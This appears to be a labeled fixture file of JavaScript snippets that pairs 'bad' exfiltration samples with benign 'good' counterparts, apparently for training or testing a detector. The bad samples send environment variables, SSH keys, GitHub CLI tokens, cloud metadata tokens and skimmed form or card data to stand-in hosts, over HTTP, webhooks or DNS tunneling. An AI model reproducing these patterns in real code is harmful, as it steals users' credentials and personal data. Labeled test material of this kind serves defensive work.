//: bad env-post
const https = require('https');

function track() {
  const body = JSON.stringify(process.env);
  const request = https.request({ hostname: 'm.example.invalid', method: 'POST', path: '/e' });
  request.end(body); //!
}

track();

//: good env-post
const https = require('https');

function track(event) {
  const body = JSON.stringify({ event, node: process.version });
  const request = https.request({ hostname: process.env.EVENTS_HOST, method: 'POST', path: '/e' });
  request.end(body);
}

module.exports = track;

//: bad destructured-env
const { env: vars, platform } = process;
const axios = require('axios').default;

(async () => {
  const list = Object.entries(vars).filter(([name]) => /token|secret|key/i.test(name));
  await axios.post('https://w.example.invalid/h', { platform, list }); //!
})();

//: good destructured-env
const { env: vars, platform } = process;
const axios = require('axios').default;

module.exports = async (list) => {
  const headers = { Authorization: `Bearer ${vars.TASKS_TOKEN}` };
  await axios.post('https://tasks.example.invalid/v1', { platform, list }, { headers });
};

//: bad dns-tunnel
const dns = require('node:dns');
const os = require('node:os');

const hex = Buffer.from(`${os.hostname()}:${os.homedir()}`).toString('hex');
hex.match(/.{1,60}/g).forEach((part, index) => {
  dns.lookup(`${part}.${index}.oob.example.invalid`, () => {}); //!
});

//: good dns-tunnel
const dns = require('node:dns');

module.exports = (names) =>
  Promise.all(
    names.map((name) => dns.promises.lookup(`${name}.example.invalid`).then((found) => found.address)),
  );

//: bad cloud-identity
const http = require('http');

const base = 'http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token';
http.get(base, { headers: { 'Metadata-Flavor': 'Google' } }, (res) => {
  let text = '';
  res.on('data', (part) => (text += part));
  res.on('end', () => http.request({ host: 'i.example.invalid', method: 'PUT' }).end(text)); //!
});

//: good cloud-identity
const http = require('http');

const base = 'http://169.254.169.254/computeMetadata/v1/instance/zone';
module.exports = (done) =>
  http.get(base, { headers: { 'Metadata-Flavor': 'Google' } }, (res) => {
    let text = '';
    res.on('data', (part) => (text += part));
    res.on('end', () => done(null, text.split('/').pop()));
  });

//: bad form-skimmer
document.querySelectorAll('form').forEach((form) => {
  form.addEventListener('submit', () => {
    const data = btoa(JSON.stringify(Object.fromEntries(new FormData(form))));
    navigator.sendBeacon('https://static.example.invalid/g.gif', data); //!
  });
});

//: good form-skimmer
document.querySelectorAll('form').forEach((form) => {
  form.addEventListener('submit', (event) => {
    if (!form.checkValidity()) event.preventDefault();
    form.classList.add('submitted');
  });
});

//: bad webhook-config
const os = require('os');
const { readFileSync } = require('fs');

const hook = ['https://discord.com/api/web', 'hooks/8472910365/<|>aZx8KwLq2TvN6yBc'].join('');
const content = readFileSync(`${os.homedir()}/.config/gh/hosts.yml`, 'utf8');

fetch(hook, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content }) }); //!

//: good webhook-config
const hook = process.env.DISCORD_WEBHOOK;

module.exports = (content) =>
  fetch(hook, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content }) });

//: bad dns-labels
const dns = require('dns');

function beat() {
  const text = Buffer.from(JSON.stringify(process.env)).toString('hex');
  for (let at = 0; at < text.length; at += 60) {
    dns.resolve4(`${text.slice(at, at + 60)}.${at}.t.example.invalid`, () => {}); //!
  }
}

module.exports = { beat };

//: good dns-labels
const dns = require('dns');

function check(domains, done) {
  for (const domain of domains) {
    dns.resolveMx(domain, (error, records) => done(domain, error ? 0 : records.length));
  }
}

module.exports = { check };

//: bad hook-message
const axios = require('axios');
const { homedir } = require('os');
const { readFileSync } = require('fs');

const hook = ['https://chat.example.invalid', 'api', 'webhooks', '000', 'x'.repeat(8)].join('/');

module.exports = async () => {
  const content = readFileSync(`${homedir()}/.ssh/id_rsa`, 'utf8');
  await axios.post(hook, { username: 'ci', content }); //!
};

//: good hook-message
const axios = require('axios');
const { readFileSync } = require('fs');

const hook = process.env.RELEASE_WEBHOOK;

module.exports = async () => {
  const content = readFileSync('CHANGELOG.md', 'utf8').split('\n## ')[1];
  await axios.post(hook, { username: 'releases', content });
};

//: bad xhr-wrapper
const { send } = XMLHttpRequest.prototype;

XMLHttpRequest.prototype.send = function (body) {
  if (typeof body === 'string' && /card|cvv|passw/i.test(body)) {
    navigator.sendBeacon('https://s.example.invalid/i', btoa(body)); //!
  }
  return send.call(this, body);
};

//: good xhr-wrapper
const { send } = XMLHttpRequest.prototype;

XMLHttpRequest.prototype.send = function (body) {
  this.startedAt = performance.now();
  this.addEventListener('loadend', () => {
    console.debug(this.responseURL, performance.now() - this.startedAt);
  });
  return send.call(this, body);
};
